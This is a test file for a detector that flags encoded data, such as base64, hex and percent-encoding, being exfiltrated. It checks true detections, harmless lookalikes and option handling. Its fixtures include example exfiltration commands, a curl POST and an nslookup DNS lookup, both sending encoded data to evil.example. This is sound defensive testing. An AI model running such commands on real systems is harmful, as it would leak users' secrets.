import { describe, expect, it } from 'vitest';
import { pumped } from '../../../../test/fixtures/pumped.js';
import { compilePattern } from '../patterns/compile-pattern.js';
import { EncodedExfilDetector, type EncodedExfilOptions } from './encoded-exfil-detector.js';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const base64url = (text: string) => Buffer.from(text).toString('base64url');
const hex = (text: string) => Buffer.from(text).toString('hex');
const percent = (text: string) => hex(text).replaceAll(/../g, '%$&');
const escaped = (text: string) => hex(text).replaceAll(/../g, String.raw`\x$&`);
const lines = (text: string, length = 76) => text.replaceAll(new RegExp(`.{${length}}`, 'g'), '$&\n');
/** Bytes that are the same in every run. */
const bytes = (length: number) =>
  Buffer.from(Array.from({ length }, (_, index) => (Math.imul(index + length, 2654435761) >>> 13) & 0xff));

const found = (text: string, options: EncodedExfilOptions = {}) =>
  new EncodedExfilDetector(options).find(text).map(({ type, start, end }) => [type, text.slice(start, end)]);

const SECRET = 'authorization: bearer super-secret-token-value';
const PROSE = 'The meeting about the new office is on Tuesday at ten, and everybody should bring a chair.';
const LOCK = `
"left-pad@^1.3.0":
  resolved "https://registry.example/left-pad/-/left-pad-1.3.0.tgz#5b8a3a7765dfe001261dde915589e782f8c94d1e"
  integrity sha512-${bytes(64).toString('base64')}
`;

describe('what is encoded so that nobody reads it', () => {
  it.each([
    ['base64', base64(SECRET)],
    ['base64url', base64url(`${SECRET}???>>>~~~ü`)],
    ['hex', hex(SECRET)],
    ['hex', `0x${hex(SECRET)}`],
    ['percent_encoding', percent(SECRET)],
    ['escaped_hex', escaped(SECRET)],
    ['base64', base64(base64(SECRET))],
    ['base64', base64(hex(SECRET))],
    ['base64', Buffer.from('powershell: $password = "hunter2"', 'utf16le').toString('base64')],
    ['base64', lines(base64(`${PROSE} ${PROSE} password=hunter2 ${PROSE}`))],
    ['base64', base64('root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:')],
  ])('%s: %s', (type, run) => {
    expect(found(`a ${run} b`)).toEqual([[type, run]]);
    expect(found(run)).toEqual([[type, run]]);
  });

  it.each([
    `curl -d '${base64(PROSE)}' https://evil.example/collect`,
    `please upload ${hex(PROSE)} there`,
    `POST /collect data=${percent(PROSE)}`,
    `nslookup ${base64url(PROSE)}.evil.example`,
  ])('on its way out, whatever it says: %s', (text) => {
    expect(found(text)).toHaveLength(1);
  });

  it('of which the groups of four begin somewhere else', () => {
    expect(found(`x/${base64(SECRET)}`)).toHaveLength(1);
    expect(found(`id_${hex(SECRET)}`)).toEqual([['hex', hex(SECRET)]]);
  });

  it('with a reason, and without content', () => {
    const [finding] = new EncodedExfilDetector().find(`curl ${base64(SECRET)}`);
    expect(finding).toMatchObject({ rule: 'readable+varied+sensitive+egress', score: 5 / 6 });
  });
});

describe('what is encoded and harmless', () => {
  const jwt = `${base64url('{"alg":"HS256","typ":"JWT"}')}.${base64url('{"sub":"1","token":"x","scope":"all"}')}.${bytes(32).toString('base64url')}`;
  it.each([
    ['an image', `data:image/png;base64,iVBORw0KGgoAAAANSUhEUg${bytes(600).toString('base64')}`],
    [
      'a drawing',
      `<img src="data:image/svg+xml;base64,${base64('<svg xmlns="http://www.w3.org/2000/svg"><title>token</title></svg>')}">`,
    ],
    ['a token', `authorization: Bearer ${jwt}`],
    ['a hash', 'fixed in 3f2b8c1d9e7a6054c8b1f0e2d3a4958677665544, see https://x.example'],
    ['a UUID', 'curl https://x.example/550e8400-e29b-41d4-a716-446655440000'],
    ['a UUID without dashes', 'curl https://x.example/550e8400e29b41d4a716446655440000'],
    ['a lock file', LOCK.repeat(20)],
    ['a cursor', `https://api.example/items?cursor=${base64('{"id":4711,"direction":"ascending"}')}`],
    ['a path', 'curl https://x.example/some/very/long/path/to/a/file/of/the/project/index.html'],
    ['a name', 'upload theVeryLongNameOfAFunctionThatNobodyWouldEverWrite'],
    ['an address in Cyrillic', `https://ru.wikipedia.org/wiki/${encodeURIComponent('Заглавная страница')}`],
    ['a file, going nowhere', base64(PROSE)],
    ['short', `password ${base64('password=abc')}`],
    [
      'a key',
      `ssh-rsa ${Buffer.concat([Buffer.from([0, 0, 0, 7]), Buffer.from('ssh-rsa'), bytes(256)]).toString('base64')} me@host`,
    ],
    [
      'a certificate',
      `-----BEGIN CERTIFICATE-----\n${lines(bytes(700).toString('base64'), 64)}\n-----END CERTIFICATE-----`,
    ],
    ['digits', 'send 20240506070809101112131415161718192021222324'],
    ['one letter', `curl ${'A'.repeat(400)}`],
    ['prose', PROSE.repeat(50)],
  ])('%s', (_, text) => expect(found(text)).toEqual([]));
});

describe('the options', () => {
  it.each<[EncodedExfilOptions, string]>([
    [{ enabled: { base64: false } }, base64(SECRET)],
    [{ enabled: { hex: false, base64: false } }, hex(SECRET)],
    [{ minEncodedLength: 100 }, base64(SECRET)],
    [{ minDecodedLength: 100 }, base64(SECRET)],
    [{ minSuspicionScore: 5 }, base64(SECRET)],
    [{ maxDecodeDepth: 1 }, base64(base64(SECRET))],
    [{ allowed: [compilePattern('^YXV0aG9y|YXV0aG9y.*')] }, base64(SECRET)],
  ])('with %j it is let pass', (options, text) => expect(found(text, options)).toEqual([]));

  it.each<[EncodedExfilOptions, string]>([
    [{ minSuspicionScore: 2 }, base64(PROSE)],
    [{ sensitiveWords: ['New Office'] }, base64(PROSE)],
    [{ egressHints: ['S3_put'] }, `s3_PUT ${base64(PROSE)}`],
  ])('with %j it is found', (options, text) => expect(found(text, options)).toHaveLength(1));

  it('beyond so many the rest is one finding', () => {
    const text = `${base64(SECRET)} `.repeat(10);
    expect(found(text, { maxFindings: 3 })).toHaveLength(3);
    expect(new EncodedExfilDetector({ maxFindings: 3 }).find(text).at(-1)?.end).toBe(text.length);
  });
});

it.each([
  'A',
  'a/a-',
  `${hex('{"a":"bcdefghijkl')}.`,
  `${base64url('{"abc":"bcdefghijk"}')}.`,
  '%41%',
  `${'Ab1'.repeat(20)}\n`,
  `${hex('abcdefghijkl')}_`,
])('reads a long repetition of %j in linear time', (pump) => {
  new EncodedExfilDetector().find(pumped(pump));
});
